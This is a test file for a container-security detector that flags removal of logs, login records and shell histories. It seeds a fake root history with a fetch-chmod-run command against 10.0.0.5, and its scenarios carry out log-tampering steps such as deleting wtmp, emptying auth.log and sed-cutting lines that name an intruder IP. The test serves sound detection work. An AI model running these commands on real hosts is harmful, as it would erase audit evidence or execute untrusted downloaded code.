import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runDetectors, type DetectionResult } from '../../electron/engine/detect/run-detectors.js';
import { severityRank, type Finding } from '@shared/domain/finding.js';
import type { EngineEvidence } from '@shared/domain/evidence-set.js';
import { docker, removeSuite } from '../helpers/docker.js';
import { collect, script, start, startAll } from './harness.js';
import { reportScores, score, type Scenario } from './scores.js';

/**
 * Indicator removal on a filesystem whose image ships logs, login records, a journal and shell histories: the
 * image is made here by committing a container that wrote them, then every scenario container runs from it and
 * deletes, empties, cuts or rotates what the image holds. The diff and the layer sizes are read host-side.
 */
const SUITE = 'detect-scenarios-indicators';
const IMAGE = `stowaway-scenario/${SUITE}:logs`;
const c: Record<string, Docker.Container> = {};
let evidence: EngineEvidence;
let result: DetectionResult;

const findingsFor = (key: string): Finding[] =>
  [...result.findings, ...result.suppressed].filter((f) => f.container?.id === c[key]!.id);

const SEED = [
  'mkdir -p /var/log/journal/0af1 /var/log/audit /var/run /home/app /root',
  'for i in $(seq 1 40); do echo "Dec  1 10:00:$i host sshd[1$i]: Accepted password for root from 10.0.0.5 port 5$i" >> /var/log/auth.log; done',
  'for i in $(seq 1 40); do echo "Dec  1 10:00:$i host kernel: line $i from 10.0.0.5" >> /var/log/messages; done',
  'for i in $(seq 1 30); do echo "GET /index.html 200 $i" >> /var/log/app.log; echo "GET /x $i" >> /var/log/app2.log; done',
  'head -c 3840 /dev/urandom > /var/log/wtmp; head -c 768 /dev/urandom > /var/log/btmp; head -c 2920 /dev/urandom > /var/log/lastlog; head -c 1536 /dev/urandom > /var/run/utmp',
  'head -c 8192 /dev/urandom > /var/log/journal/0af1/system.journal; echo "type=USER_LOGIN msg=audit(1): addr=10.0.0.5" > /var/log/audit/audit.log',
  'printf "wget http://10.0.0.5/x\\nchmod +x x\\n./x\\n" > /root/.ash_history; printf "ls\\nsudo -i\\n" > /home/app/.bash_history',
].join('; ');

const SCENARIOS: Scenario[] = [
  {
    detector: 'indicator-removal',
    malicious: ['rmLogin', 'emptyAuth', 'cutMessages', 'rmJournal', 'clearHistory', 'rmHistory', 'wipeUtmp'],
    benign: ['rotateMove', 'rotateGzip', 'rotateDated', 'growing'],
  },
];

beforeAll(async () => {
  await removeSuite(SUITE);
  await docker
    .getImage(IMAGE)
    .remove({ force: true })
    .catch(() => undefined);
  const seed = await start({ suite: SUITE, cmd: ['sh', '-c', SEED] });
  await seed.wait();
  await seed.commit({ repo: `stowaway-scenario/${SUITE}`, tag: 'logs' });
  await seed.remove({ force: true });
  // The image stands for one built before the scenario: the events read start after its commit (whole seconds).
  await new Promise((r) => setTimeout(r, 1100));
  const since = new Date();
  const on = (setup: string) => start({ suite: SUITE, image: IMAGE, ready: true, cmd: script(setup) });
  const runs = {
    rmLogin: on('rm -f /var/log/wtmp /var/log/btmp /var/log/lastlog'),
    emptyAuth: on(': > /var/log/auth.log; : > /var/log/audit/audit.log'),
    // Lines naming the intruder's address removed, the rest kept.
    cutMessages: on("sed -i '/10.0.0.5/d' /var/log/messages; echo 'Dec  2 host kernel: ok' >> /var/log/messages"),
    rmJournal: on('rm -rf /var/log/journal'),
    clearHistory: on(': > /root/.ash_history'),
    rmHistory: on('rm /home/app/.bash_history'),
    wipeUtmp: on('head -c 384 /var/run/utmp > /tmp/u; cat /tmp/u > /var/run/utmp'),
    // Rotation: the log moves to a sibling and a fresh file takes its place, compressed or dated.
    rotateMove: on('mv /var/log/app.log /var/log/app.log.1; : > /var/log/app.log'),
    rotateGzip: on('gzip -c /var/log/app2.log > /var/log/app2.log.1.gz; : > /var/log/app2.log'),
    rotateDated: on('mv /var/log/messages /var/log/messages-20261201; touch /var/log/messages'),
    growing: on('echo "GET / 200" >> /var/log/app.log; echo "id" >> /root/.ash_history; echo new > /root/.sh_history'),
  };
  Object.assign(c, await startAll(runs));
  evidence = await collect(
    Object.values(c).map((x) => x.id),
    since,
  );
  result = runDetectors(evidence);
}, 120_000);

afterAll(async () => {
  if (result) reportScores(SUITE, score(SCENARIOS, findingsFor));
  await removeSuite(SUITE);
  await docker
    .getImage(IMAGE)
    .remove({ force: true })
    .catch(() => undefined);
});

describe('indicator removal (real dockerd, diff and image sizes read host-side)', () => {
  for (const s of SCENARIOS) {
    for (const key of s.malicious) {
      it(`${s.detector} fires on ${key}`, () => {
        const hits = findingsFor(key).filter((f) => f.detector === s.detector);
        expect(hits, JSON.stringify(findingsFor(key).map((f) => [f.detector, f.severity, f.summary]))).not.toEqual([]);
        expect(hits.every((f) => severityRank(f.severity) >= severityRank('medium'))).toBe(true);
      });
    }
    for (const key of s.benign) {
      it(`nothing at medium or above on the look-alike ${key}`, () => {
        const loud = findingsFor(key).filter(
          (f) => severityRank(f.severity) >= severityRank('medium') && !f.suppressedBy,
        );
        expect(loud.map((f) => `${f.detector}: ${f.summary}`)).toEqual([]);
      });
    }
  }

  it('one finding per cause, each file with what the image held', () => {
    const login = findingsFor('rmLogin').filter((f) => f.detector === 'indicator-removal');
    expect(login.map((f) => [f.severity, f.attack.join()])).toEqual([['high', 'T1070.002']]);
    expect(Object.fromEntries(login[0]!.evidence.map((e) => [e.ref, e.excerpt]))).toEqual({
      '/var/log/btmp': 'deleted (the image holds 768 bytes)',
      '/var/log/lastlog': 'deleted (the image holds 2920 bytes)',
      '/var/log/wtmp': 'deleted (the image holds 3840 bytes)',
    });
    const cut = findingsFor('cutMessages').find((f) => f.detector === 'indicator-removal')!;
    expect(cut.severity).toBe('high');
    expect(cut.evidence[0]!.excerpt).toMatch(/^cut to \d+ bytes \(the image holds \d+\)/);
    const hist = findingsFor('clearHistory').find((f) => f.detector === 'indicator-removal')!;
    expect([hist.attack, hist.evidence[0]!.excerpt.split(';')[0]]).toEqual([
      ['T1070.003'],
      'emptied (0 bytes, the image holds 38)',
    ]);
  });
});
